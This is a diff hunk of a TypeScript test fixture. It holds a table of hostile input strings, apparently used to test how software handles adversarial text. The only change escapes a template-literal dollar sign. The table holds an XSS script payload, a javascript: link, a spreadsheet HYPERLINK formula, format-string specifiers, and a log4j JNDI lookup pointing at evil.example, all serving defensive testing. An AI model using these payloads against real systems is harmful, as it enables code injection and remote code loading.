@@ -42,7 +42,7 @@ export const hostileTexts: Readonly<Record<string, string>> = {
   Zalgo: `a${'\u0301'.repeat(500)}`,
   HTML: '<script>alert(1)</script><img src=x onerror=alert(1)>',
   Markdown: '| [x](javascript:alert(1)) ![](http://evil.example) `|` |',
-  'quotes and backslashes': '"\\"\\\\\'`${x}',
+  'quotes and backslashes': '"\\"\\\\\'`\u0024{x}',
   'a formula': '=HYPERLINK("http://evil.example")',
   'a format': '%s%s%n%x%d',
   'a log4j look-up': '\u0024{jndi:ldap://evil.example/a}',
